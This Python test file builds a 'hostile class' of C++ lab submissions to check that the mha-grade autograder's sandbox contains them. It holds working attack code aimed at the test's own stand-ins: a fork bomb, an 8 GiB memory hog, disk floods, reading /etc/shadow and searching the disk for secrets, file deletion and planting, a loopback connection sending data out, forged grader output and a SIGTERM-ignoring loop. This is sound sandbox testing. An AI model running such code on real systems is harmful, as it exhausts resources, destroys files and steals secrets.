"""tests/labs/hostile_class.py: a class that attacks its grader, graded by mha-grade's gradebook.

Two honest students (ada right, bob with Q and K swapped) hand in lab 01 beside twelve
submissions that try what a hostile class tries: forge their result lines, reach the
library's answer (by `import mha;`, by declaring its function, in lab 01 and lab 05),
#include a classmate's file and the reference solutions, fork thousands of processes, write
a gigabyte to stdout and to files, allocate more than the memory limit, search the disk for secrets, delete and plant
files outside their folder, open a network connection, and ignore SIGTERM in a loop. The
test checks
  - every student's verdict, and that the honest students are graded right;
  - that no file outside the submissions' work folders changed (checksums before and after
    of the class, a stand-in teacher's home with a world-writable folder, the golden cases
    and the reference solutions), and that nothing was planted in the machine's /tmp;
  - that nothing was stolen (no secret of the home, a classmate or the golden answers in
    anything the grader kept) or received (a listener on 127.0.0.1 hears no one);
  - that no process of the class is left, not even one ended and never reaped (the test is
    the subreaper of all it starts, so what outlives the grader is found among its own
    children, and another grader's jobs on the machine are never mistaken for the class's),
    that the gradebook folder stays small and the grader's own memory bounded, whatever the
    class wrote.
Run as root, it grades the class a second time as an unprivileged user (nobody): the sandbox
must hold both ways. With --no-sandbox (the test "labs: the hostile class is not contained
without the sandbox", WILL_FAIL) the same checks must fail.

  python3 tests/labs/hostile_class.py MHA_GRADE BUILD_DIR OUT [--no-sandbox]
"""

import hashlib
import os
import secrets
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent.parent

# A right lab 01, as ada writes it; an attack goes in ATTACK (a static initializer runs
# before main) or in SPLIT (the first line of split_packed).
SKELETON = r"""// A submission of the hostile test class (tests/labs/hostile_class.py): @NAME@.
#include "mha_lab.hpp"
@INCLUDES@

namespace {
@ATTACK@
}  // namespace

namespace lab01 {

template <class T>
lab::SeparateProjections<T> split_packed(const xt::xtensor<T, 2>& w, const std::optional<xt::xtensor<T, 1>>& b) {
  @SPLIT@
  const std::size_t E = w.shape(1);
  auto rows = [&](std::size_t i) { return xt::xtensor<T, 2>(xt::view(w, xt::range(i * E, (i + 1) * E))); };
  lab::SeparateProjections<T> p{rows(@Q@), rows(@K@), rows(2), {}, {}, {}};
  if (b) {
    auto part = [&](std::size_t i) { return xt::xtensor<T, 1>(xt::view(*b, xt::range(i * E, (i + 1) * E))); };
    p.b_q = part(@Q@), p.b_k = part(@K@), p.b_v = part(2);
  }
  return p;
}

template <class T>
lab::PackedProjection<T> pack(const lab::SeparateProjections<T>& p) {
  lab::PackedProjection<T> packed{xt::concatenate(xt::xtuple(p.w_q, p.w_k, p.w_v), 0), std::nullopt};
  if (p.b_q) packed.in_proj_bias = xt::xtensor<T, 1>(xt::concatenate(xt::xtuple(*p.b_q, *p.b_k, *p.b_v), 0));
  return packed;
}

template lab::SeparateProjections<float> split_packed(const xt::xtensor<float, 2>&,
                                                      const std::optional<xt::xtensor<float, 1>>&);
template lab::SeparateProjections<double> split_packed(const xt::xtensor<double, 2>&,
                                                       const std::optional<xt::xtensor<double, 1>>&);
template lab::PackedProjection<float> pack(const lab::SeparateProjections<float>&);
template lab::PackedProjection<double> pack(const lab::SeparateProjections<double>&);

}  // namespace lab01
"""

# Lab 05 handed in as the library's own forward.
LIBRARY_FORWARD = r"""// A submission of the hostile test class: lab 05 answered by the library's own module.
#include "mha_lab.hpp"
import mha;

namespace lab05 {
template <class T>
lab::Output<T> forward(const lab::Options& options, const lab::StateDict<T>& parameters, const xt::xarray<T>& query,
                       const xt::xarray<T>& key, const xt::xarray<T>& value, const lab::ForwardOptions<T>& opts) {
  mha::Options o;
  o.embed_dim = options.embed_dim, o.num_heads = options.num_heads, o.batch_first = options.batch_first;
  mha::MultiheadAttention<T> m(o);
  m.load_state_dict(parameters);
  const auto out = m.forward(query, key, value);
  return {out.attn_output, out.attn_output_weights};
}
template lab::Output<float> forward(const lab::Options&, const lab::StateDict<float>&, const xt::xarray<float>&,
                                    const xt::xarray<float>&, const xt::xarray<float>&,
                                    const lab::ForwardOptions<float>&);
template lab::Output<double> forward(const lab::Options&, const lab::StateDict<double>&, const xt::xarray<double>&,
                                     const xt::xarray<double>&, const xt::xarray<double>&,
                                     const lab::ForwardOptions<double>&);
}  // namespace lab05
"""

# name -> (includes, attack, first line of split_packed)
ATTACKS = {
    "forger": ("#include <cstdio>\n#include <unistd.h>", r"""
const int forged = [] {
  for (const char* part : {"split_packed", "pack"}) std::printf("result 01-split-pack %s 86 86 pass -\n", part);
  std::printf("named: -\nverdict: PASS (0.1 s)\n");
  std::fflush(stdout);
  const char fake[] = "status cross_seqfirst_f32 split_packed none 0\n";
  [[maybe_unused]] auto n = ::write(3, fake, sizeof fake - 1);
  ::_exit(0);
  return 0;
}();""", ""),
    "importer": ("import mha;", "", "if (w.size() == 0) (void)mha::textbook::split_packed(w, b);"),
    "declarer": ("", r"""}  // namespace
namespace mha::textbook {
template <class T>
lab::SeparateProjections<T> split_packed(const xt::xtensor<T, 2>&, const std::optional<xt::xtensor<T, 1>>&);
}  // namespace mha::textbook
namespace {""", "if (w.size() == 0) return mha::textbook::split_packed(w, b);"),
    "copier": ('#include "../ada/split_pack.cpp"', "", ""),
    "peeker": ('#include "@SOURCE@/tests/labs/solutions.cpp"', "", ""),
    "forker": ("#include <unistd.h>", r"""
const int forked = [] {
  for (int i = 0; i < 5000; ++i) {
    const pid_t pid = ::fork();
    if (pid == 0) {
      ::sleep(600);
      ::_exit(0);
    }
    if (pid < 0) break;
  }
  return 0;
}();""", ""),
    "flooder": ("#include <cstdio>\n#include <fstream>\n#include <string>", r"""
const int flooded = [] {
  const std::string chunk(1 << 20, 'x');
  for (int i = 0; i < 1024; ++i) std::fwrite(chunk.data(), 1, chunk.size(), stdout);
  std::fflush(stdout);
  for (const char* file : {"/tmp/flood", "./flood", "/box/flood"}) {
    std::ofstream out(file, std::ios::binary);
    for (int i = 0; i < 1024 && out; ++i) out.write(chunk.data(), static_cast<std::streamsize>(chunk.size()));
  }
  return 0;
}();""", ""),
    "hoarder": ("#include <cstdio>\n#include <cstring>\n#include <vector>", r"""
const std::size_t hoarded = [] {
  std::vector<char*> blocks;  // 8 GiB, 128 MiB at a time, every page touched
  for (int i = 0; i < 64; ++i) {
    char* block = new char[std::size_t{128} << 20];
    std::memset(block, i + 1, std::size_t{128} << 20);
    blocks.push_back(block);
  }
  std::size_t sum = 0;
  for (char* block : blocks) sum += static_cast<unsigned char>(block[12345]);
  std::printf("%zu\n", sum);
  return sum;
}();""", ""),
    "thief": ("#include <cstdio>\n#include <filesystem>\n#include <fstream>\n#include <sstream>\n#include <unistd.h>", r"""
std::string slurp(const std::filesystem::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}
const int stolen = [] {
  std::string loot;
  for (const char* p : {"@VICTIM@/home/secret.txt", "@CLASS@/ada/split_pack.cpp",
                        "@GOLDEN@/cross_seqfirst_f32/attn_output.npy", "/root/.bash_history", "/etc/shadow"})
    loot += slurp(p);
  std::error_code ec;
  int seen = 0;
  for (auto it = std::filesystem::recursive_directory_iterator(
           "/", std::filesystem::directory_options::skip_permission_denied, ec);
       it != std::filesystem::recursive_directory_iterator() && seen < 200000; it.increment(ec), ++seen) {
    if (ec) break;
    const auto name = it->path().filename().string();
    if (name == "split_pack.cpp" || name == "secret.txt" || name == "solutions.cpp") loot += slurp(it->path());
    if (it->path() == "/proc" || it->path() == "/sys") it.disable_recursion_pending();
  }
  std::printf("%s\n", loot.c_str());
  std::fflush(stdout);
  const std::string record = "status cross_seqfirst_f32 loot error " + std::to_string(loot.size()) + "\n" + loot;
  [[maybe_unused]] auto n = ::write(3, record.data(), record.size());
  std::ofstream("@VICTIM@/shared/stolen.txt") << loot;
  return 0;
}();""", 'throw lab::NotImplemented("split_packed");'),
    "vandal": ("#include <filesystem>\n#include <fstream>", r"""
const int vandalised = [] {
  std::error_code ec;
  for (const char* p : {"@CLASS@/ada", "@CLASS@/bob/split_pack.cpp", "@VICTIM@/shared/notes.txt", "@VICTIM@/home",
                        "@VICTIM@/build/lab01-answers", "@GOLDEN@/cross_seqfirst_f32"})
    std::filesystem::remove_all(p, ec);
  for (const char* p : {"@VICTIM@/shared/planted.txt", "@HOSTTMP@", "@CLASS@/planted.txt", "@VICTIM@/build/planted.o"})
    std::ofstream(p) << "planted";
  return 0;
}();""", ""),
    "caller": ("#include <arpa/inet.h>\n#include <netinet/in.h>\n#include <sys/socket.h>\n#include <unistd.h>", r"""
const int called = [] {
  const int s = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(@PORT@);
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0) {
    [[maybe_unused]] auto n = ::write(s, "exfiltrated", 11);
  }
  ::close(s);
  return 0;
}();""", ""),
    "stubborn": ("#include <csignal>\n#include <unistd.h>", r"""
const int stubborn = [] {
  std::signal(SIGTERM, SIG_IGN);
  ::fork();
  for (volatile unsigned long i = 0;; ++i) {
  }
  return 0;
}();""", ""),
}

# student -> the gradebook.csv rows (student,lab,part,passed,total,verdict,diagnosis...) that
# must start with these fields; None in a field: any value.
EXPECTED = {
    "ada": [("01", "split_packed", "86", "86", "pass"), ("01", "pack", "86", "86", "pass")],
    "bob": [("01", "split_packed", "0", "86", "fail", "qk_swapped"), ("01", "pack", "86", "86", "pass")],
    "forger": [("01", "split_packed", "0", "86", "fail"), ("01", "pack", "0", "86", "fail")],
    "importer": [("01", "-", "0", "0", "build failed", "library's own functions")],
    "declarer": [("01", "-", "0", "0", "build failed", "library's own functions")],
    "copier": [("01", "-", "0", "0", "build failed", "ada/split_pack.cpp")],
    "peeker": [("01", "-", "0", "0", "build failed", "solutions.cpp")],
    "forker": [("01", "split_packed", "86", "86", "pass"), ("01", "pack", "86", "86", "pass")],
    "flooder": [("01", "split_packed", "86", "86", "pass", "output was cut"), ("01", "pack", "86", "86", "pass")],
    "hoarder": [("01", "-", "0", "0", "crashed")],
    "thief": [("01", "split_packed", "0", "0", "not_implemented")],
    "vandal": [("01", "split_packed", "86", "86", "pass"), ("01", "pack", "86", "86", "pass")],
    "caller": [("01", "split_packed", "86", "86", "pass")],
    "stubborn": [("01", "-", "0", "0", "timed out")],
    "lifter": [("05", "-", "0", "0", "build failed", "library's own functions")],
}


def checksum(*roots):
    """One digest of every file's path, mode and content under the roots."""
    h = hashlib.sha256()
    for root in roots:
        if Path(root).is_file():
            h.update(str(root).encode() + Path(root).read_bytes())
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames.sort()
            for name in sorted(filenames) + [""]:
                p = Path(dirpath) / name
                h.update(str(p).encode())
                if name and p.is_file() and not p.is_symlink():
                    h.update(oct(p.stat().st_mode).encode())
                    h.update(p.read_bytes())
    return h.hexdigest()


def listener():
    """A TCP listener on 127.0.0.1 that records whoever connects."""
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    heard = []
    done = threading.Event()

    def serve():
        server.settimeout(0.5)
        while not done.is_set():
            try:
                conn, _ = server.accept()
                heard.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    return server, heard, done


def become_subreaper():
    """Make this test the subreaper of everything it starts: a process of the class that
    outlives the grader is handed to this test, not to PID 1, and so is found among the
    test's own descendants (and never mistaken for a job of another grader on the machine)."""
    import ctypes
    PR_SET_CHILD_SUBREAPER = 36
    if ctypes.CDLL(None, use_errno=True).prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "prctl(PR_SET_CHILD_SUBREAPER)")


def class_processes():
    """Processes left of the class: this test's descendants once the grader has ended."""
    parent, state = {}, {}
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                # /proc/PID/stat: "pid (comm) state ppid ..."; comm may hold spaces
                fields = (d / "stat").read_text().rsplit(")", 1)[1].split()
                parent[int(d.name)], state[int(d.name)] = int(fields[1]), fields[0]
            except (OSError, IndexError, ValueError):
                pass
    left = []
    for pid in parent:
        ancestor = parent.get(pid)
        while ancestor not in (None, 0, 1, os.getpid()):
            ancestor = parent.get(ancestor)
        if ancestor == os.getpid():
            try:
                uid = Path(f"/proc/{pid}").stat().st_uid
                cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            left.append(f"{pid} (uid {uid}, state {state[pid]}): {cmd[:80]}")
    return left


def make_class(out, victim, host_tmp, port):
    """The class folder: the honest students and the hostile ones, their attacks aimed at
    the test's own stand-ins (never at the project), as a real attack would aim at the
    teacher's files."""
    klass = out / "class"
    marks = {"@VICTIM@": str(victim), "@CLASS@": str(klass), "@GOLDEN@": str(out / "golden"),
             "@SOURCE@": str(ROOT), "@HOSTTMP@": str(host_tmp), "@PORT@": str(port)}
    for name, (includes, attack, split) in ATTACKS.items():
        text = SKELETON.replace("@INCLUDES@", includes).replace("@ATTACK@", attack).replace("@SPLIT@", split)
        text = text.replace("@NAME@", name).replace("@Q@", "0").replace("@K@", "1")
        for mark, value in marks.items():
            text = text.replace(mark, value)
        (klass / name).mkdir(parents=True)
        (klass / name / "split_pack.cpp").write_text(text)
    (klass / "lifter").mkdir()
    (klass / "lifter" / "forward.cpp").write_text(LIBRARY_FORWARD)
    secret = {}
    for name, q, k in (("ada", 0, 1), ("bob", 1, 0)):
        secret[name] = "SECRET-" + name.upper() + "-" + secrets.token_hex(8)
        text = SKELETON.replace("@INCLUDES@", "// " + secret[name]).replace("@ATTACK@", "").replace("@SPLIT@", "")
        (klass / name).mkdir()
        (klass / name / "split_pack.cpp").write_text(text.replace("@NAME@", name).replace("@Q@", str(q)).replace("@K@", str(k)))
    return klass, secret


def grade(grader, build, out, klass, user, no_sandbox):
    """mha-grade gradebook over the class, as `user` (None: as this process); its exit
    status, output, the time it took and its peak memory (VmHWM, KiB)."""
    book = out / "book"
    command = [grader, "gradebook", str(klass), "--out", str(book), "--build-dir", str(build),
               "--golden", str(out / "golden"), "-j", "2", "--run-timeout", "20", "--build-timeout", "120",
               "--memory", "512"]
    if no_sandbox:
        command.append("--no-sandbox")
    if user is not None:
        command = ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups", "--"] + command
    start = time.monotonic()
    p = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    peak = 0
    output = []
    reader = threading.Thread(target=lambda: output.append(p.stdout.read()), daemon=True)
    reader.start()
    while p.poll() is None:
        for d in [Path(f"/proc/{p.pid}")] + [Path(f"/proc/{c}") for c in children(p.pid)]:
            try:
                for line in (d / "status").read_text().splitlines():
                    if line.startswith("VmHWM:") and "mha-grade" in (d / "cmdline").read_text():
                        peak = max(peak, int(line.split()[1]))
            except OSError:
                pass
        time.sleep(0.1)
    reader.join()
    return p.returncode, output[0].decode(errors="replace"), time.monotonic() - start, peak


def children(pid):
    try:
        return (Path(f"/proc/{pid}/task/{pid}/children").read_text()).split()
    except OSError:
        return []


def run_once(grader, build, out, user, no_sandbox):
    """One grading of a fresh hostile class in `out`; the list of what went wrong."""
    if out.exists():
        subprocess.run(["rm", "-rf", str(out)], check=False)
    out.mkdir(parents=True)
    problems = []
    # The stand-ins: the teacher's home (a secret, a world-writable folder as on a shared
    # machine), a copy of the build's program and of the golden cases, all outside the class.
    victim = out / "victim"
    (victim / "home").mkdir(parents=True)
    home_secret = "SECRET-HOME-" + secrets.token_hex(8)
    (victim / "home" / "secret.txt").write_text(home_secret)
    (victim / "shared").mkdir()
    (victim / "shared" / "notes.txt").write_text("the teacher's notes")
    os.chmod(victim / "shared", 0o777)
    (victim / "build").mkdir()
    os.chmod(victim / "build", 0o777)
    shutil.copy(Path(build) / "labs" / "lab01-answers", victim / "build" / "lab01-answers")
    shutil.copytree(ROOT / "golden" / "cases", out / "golden")
    os.chmod(out / "golden", 0o777)
    golden_secret = (out / "golden" / "cross_seqfirst_f32" / "attn_output.npy").read_bytes()[-16:]
    host_tmp = Path("/tmp") / ("mha-hostile-" + secrets.token_hex(6))
    server, heard, done = listener()
    klass, class_secrets = make_class(out, victim, host_tmp, server.getsockname()[1])
    for p in [out, klass, victim] + list(klass.iterdir()):
        os.chmod(p, 0o777 if p == klass or p.parent == klass else 0o755)
    if user is not None:
        os.chown(out, user, user)
    guarded = {"the class": klass, "the teacher's stand-ins": victim, "the golden cases' copy": out / "golden",
               "the reference solutions": ROOT / "tests" / "labs" / "solutions.cpp"}
    before = {what: checksum(root) for what, root in guarded.items()}

    status, output, seconds, peak = grade(grader, build, out, klass, user, no_sandbox)
    done.set()
    print(output[-6000:])
    print(f"graded in {seconds:.1f} s; the grader's peak memory {peak / 1024:.0f} MiB")
    if status != 0:
        problems.append(f"mha-grade exited with {status}")

    for what, root in guarded.items():
        if checksum(root) != before[what]:
            problems.append(f"files outside the submissions' work folders changed: {what}")
    if host_tmp.exists():
        problems.append(f"{host_tmp} was planted in the machine's /tmp")
        host_tmp.unlink()
    if heard:
        problems.append(f"the listener on 127.0.0.1 heard {heard}")
    kept = b""
    book = out / "book"
    for f in book.rglob("*") if book.exists() else []:
        if f.is_file():
            kept += f.read_bytes()
    for what in [home_secret] + list(class_secrets.values()):
        if what.encode() in kept:
            problems.append(f"the grader kept {what}: stolen")
    if golden_secret in kept:
        problems.append("the grader kept bytes of the golden answers: stolen")
    size = sum(f.stat().st_size for f in book.rglob("*") if f.is_file()) if book.exists() else 0
    if size > 64 << 20:
        problems.append(f"the gradebook folder holds {size} bytes")
    if peak > 1 << 20:
        problems.append(f"the grader's memory grew to {peak} KiB")
    time.sleep(0.5)
    left = class_processes()
    if left:
        problems.append(f"processes left: {left}")
        for line in left:
            try:
                os.kill(int(line.split()[0]), 9)
            except OSError:
                pass

    csv = (book / "gradebook.csv").read_text() if (book / "gradebook.csv").exists() else ""
    rows = [r.split(",") for r in csv.splitlines()[1:]]
    for student, expected in EXPECTED.items():
        got = [r for r in rows if r[0] == student]
        for want in expected:
            lab, part = want[0], want[1]
            match = [r for r in got if r[1] == lab and r[2] == part]
            ok = bool(match) and all(w in ",".join(match[0][3:]) if i >= 4 else match[0][1 + i] == w
                                     for i, w in enumerate(want))
            if not ok:
                problems.append(f"{student}: expected a row {','.join(want)}..., got {[','.join(r) for r in got]}")
    return problems


def main():
    grader, build, out = sys.argv[1], Path(sys.argv[2]), Path(sys.argv[3])
    become_subreaper()
    no_sandbox = "--no-sandbox" in sys.argv[4:]
    problems = run_once(grader, build, out / "as-caller", None, no_sandbox)
    Path("/tmp/flood").unlink(missing_ok=True)  # what the flooder wrote where nothing stopped it
    if no_sandbox:
        # The planted fault: without the sandbox the class must get through; say what it did.
        breach = {what: any(what in p for p in problems) for what in ("changed", "heard", "stolen")}
        print("breaches: " + " ".join(f"{k}={int(v)}" for k, v in breach.items()))
    elif os.geteuid() == 0:
        problems += [f"as nobody: {p}" for p in run_once(grader, build, out / "as-nobody", 65534, no_sandbox)]
    for p in problems:
        print("PROBLEM:", p)
    print("OK: the hostile class was contained, every verdict right" if not problems else "FAILED")
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main())
